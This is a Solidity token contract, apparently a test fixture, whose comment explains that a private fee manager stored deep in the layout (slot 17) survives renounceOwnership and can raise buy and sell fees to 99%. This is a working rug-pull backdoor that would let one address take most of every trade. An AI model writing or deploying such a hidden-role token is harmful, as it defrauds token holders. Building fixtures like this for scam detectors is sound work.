// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// A renounced taxed token whose fee manager lives far down the storage layout (slot 17),
/// below sixteen slots of configuration. The fee manager can raise the fees to 99 %.
contract DeepConfigToken {
    string public name;                      // slot 0
    string public symbol;                    // slot 1
    uint256 public totalSupply;              // slot 2
    mapping(address => uint256) private _b;  // slot 3
    mapping(address => mapping(address => uint256)) private _a; // slot 4
    address public owner;                    // slot 5
    uint256 public buyFeeBps;                // slot 6
    uint256 public sellFeeBps;               // slot 7
    uint256 public maxWallet;                // slot 8
    uint256 public launchBlock;              // slot 9
    uint256 public swapThreshold;            // slot 10
    uint256 public rewardsPerShare;          // slot 11
    uint256 public marketingShare;           // slot 12
    uint256 public liquidityShare;           // slot 13
    uint256 public burnShare;                // slot 14
    uint256 public epoch;                    // slot 15
    address public pair;                     // slot 16
    address private _feeManager;             // slot 17

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply_, address feeManager_) {
        name = name_;
        symbol = symbol_;
        totalSupply = supply_;
        owner = msg.sender;
        _feeManager = feeManager_;
        buyFeeBps = 200;
        sellFeeBps = 200;
        maxWallet = supply_;
        launchBlock = block.number;
        swapThreshold = supply_ / 1000;
        marketingShare = 50;
        liquidityShare = 30;
        burnShare = 20;
        _b[msg.sender] = supply_;
        emit Transfer(address(0), msg.sender, supply_);
    }

    function decimals() external pure returns (uint8) { return 18; }
    function balanceOf(address who) external view returns (uint256) { return _b[who]; }

    function allowance(address who, address spender) external view returns (uint256) {
        return _a[who][spender];
    }

    function setPair(address pair_) external {
        require(msg.sender == owner, "not owner");
        pair = pair_;
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "not owner");
        owner = address(0);
    }

    function setFees(uint256 buyBps, uint256 sellBps) external {
        require(msg.sender == _feeManager, "not fee manager");
        require(buyBps <= 9900 && sellBps <= 9900, "fee too high");
        buyFeeBps = buyBps;
        sellFeeBps = sellBps;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _a[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(_a[from][msg.sender] >= amount, "allowance");
        _a[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(_b[from] >= amount, "balance");
        uint256 fee;
        if (pair != address(0) && from != owner && to != owner) {
            if (from == pair) fee = amount * buyFeeBps / 10000;
            else if (to == pair) fee = amount * sellFeeBps / 10000;
        }
        _b[from] -= amount;
        _b[to] += amount - fee;
        emit Transfer(from, to, amount - fee);
        if (fee > 0) {
            _b[address(this)] += fee;
            emit Transfer(from, address(this), fee);
        }
    }
}
